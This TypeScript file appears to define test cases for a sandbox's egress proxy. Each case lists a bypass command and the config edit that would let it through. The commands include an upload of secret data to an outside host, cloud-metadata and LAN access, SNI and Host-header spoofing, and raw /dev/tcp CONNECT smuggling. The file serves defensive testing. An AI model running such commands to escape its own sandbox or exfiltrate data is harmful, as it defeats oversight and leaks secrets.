// SPDX-License-Identifier: GPL-3.0-only
import { addresses as a, names } from './addresses.ts';
import type { ProxyFiles, User } from './ways.ts';

export type ProxyWay = {
  readonly as?: User;
  /** For bash. */
  readonly command: string;
  /** The proxy's files without the protection that stops it. */
  readonly without: (files: ProxyFiles) => ProxyFiles;
  /** The address is a second protection: the proxy's user then may reach all. */
  readonly open?: true;
  /** The resolver leads the forge's names to the cloud. */
  readonly lie?: true;
};

const proxy = '127.0.0.1:3128';
const curl = `curl --silent --insecure --max-time 2 --proxy http://${proxy}`;
const tls = (to: string, sni: string): string =>
  `openssl s_client -proxy ${proxy} -connect ${to} -servername ${sni} </dev/null`;
/** Says something through the proxy as it is. */
const say = (text: string, then = ''): string =>
  `exec 3<>/dev/tcp/127.0.0.1/3128; printf '${text.replaceAll('\n', '\\r\\n')}' >&3; sleep 0.2; printf '${then}' >&3; timeout 0.4 cat <&3`;

const edit =
  (key: keyof ProxyFiles, from: string | RegExp, to: string) =>
  (files: ProxyFiles): ProxyFiles => {
    const text = files[key].replace(from, to);
    if (text === files[key]) throw new Error(`${key} has nothing to take away: ${from}`);
    return { ...files, [key]: text };
  };
const all =
  (...edits: readonly ((files: ProxyFiles) => ProxyFiles)[]) =>
  (files: ProxyFiles): ProxyFiles =>
    edits.reduce((sofar, next) => next(sofar), files);

const askResolver = edit('conf', 'dns_nameservers 127.0.0.1', `dns_nameservers ${a.resolver}`);
const anyName = all(
  edit('conf', 'http_access deny all', 'http_access allow all'),
  edit('tunnels', /$/, 'ssl_bump splice at_hello\n'),
  askResolver,
);
const anyPort = edit('conf', 'http_access deny !port_443\n', '');
const anyMethod = edit('conf', 'http_access deny !connect\n', '');
const anyHello = edit('tunnels', /sni_\d+$/gm, '');

const toAnyName = (command: string): ProxyWay => ({ command, without: anyName, open: true });

export const waysByProxy: Readonly<Record<string, ProxyWay>> = {
  'a name that is not of the forge': toAnyName(`${curl} https://${names.cloud}/`),
  'an address': toAnyName(`${curl} https://${a.cloud}/`),
  'an address of IPv6': toAnyName(`${curl} 'https://[${a.cloud6}]/'`),
  'an IPv4 address written as IPv6': toAnyName(`${curl} 'https://[::ffff:c000:242]/'`),
  "a cloud's metadata": toAnyName(`${curl} https://${a.metadata}/`),
  'the local network': toAnyName(`${curl} https://${a.lan}/`),
  "a name that begins like the forge's": toAnyName(
    tls(`${names.forge}.${names.cloud}:443`, names.forge),
  ),
  "a name that ends like the forge's": toAnyName(tls(`evil${names.forge}:443`, names.forge)),
  "a name below the forge's": toAnyName(tls(`secret.${names.forge}:443`, names.forge)),
  "the forge's name as a user": toAnyName(
    say(`CONNECT ${names.forge}@${a.cloud}:443 HTTP/1.1\n\n`) +
      `; ${tls(`${a.cloud}:443`, names.forge)}`,
  ),
  "the forge's name in another header": toAnyName(
    `${curl} --proxy-header 'Host: ${names.forge}' https://${names.cloud}/`,
  ),
  'a redirect from the forge': toAnyName(`${curl} --location https://${names.forge}/away`),
  'a web page without TLS': {
    command: `${curl} http://${names.cloud}/`,
    without: all(anyName, anyPort, anyMethod),
    open: true,
  },
  'an upload without TLS': {
    command: `${curl} --data secret http://${a.cloud}/`,
    without: all(anyName, anyPort, anyMethod),
    open: true,
  },
  FTP: {
    command: `${curl} ftp://${a.cloud}/`,
    without: all(anyName, anyPort, anyMethod),
    open: true,
  },
  'the forge without TLS': {
    command: `${curl} http://${names.forge}/`,
    without: all(anyPort, anyMethod),
    open: true,
  },
  'another port of the forge': {
    command: tls(`${names.forge}:22`, names.forge),
    without: anyPort,
    open: true,
  },
  'a proxy of somebody else on loopback': {
    command: tls('127.0.0.1:8080', names.forge),
    without: all(anyName, anyPort),
    open: true,
  },
  'another name in the hello': {
    command: tls(`${names.forge}:443`, names.cloud),
    without: anyHello,
  },
  "another of the forge's names in the hello": {
    command: tls(`${names.forge}:443`, names.api),
    without: anyHello,
  },
  "a name in the hello that begins like the forge's": {
    command: tls(`${names.forge}:443`, `${names.forge}.${names.cloud}`),
    without: anyHello,
  },
  'no TLS in the tunnel': {
    command: say(`CONNECT ${names.forge}:443 HTTP/1.1\n\n`, 'SSH-2.0-secret\\r\\n'),
    without: edit('conf', 'ssl_bump peek before_hello', 'ssl_bump splice before_hello'),
  },
  "a resolver that leads the forge's name elsewhere": {
    command: `${curl} https://${names.api}/`,
    without: all(edit('conf', /^hosts_file .*/m, 'hosts_file none'), askResolver),
    open: true,
    lie: true,
  },
};
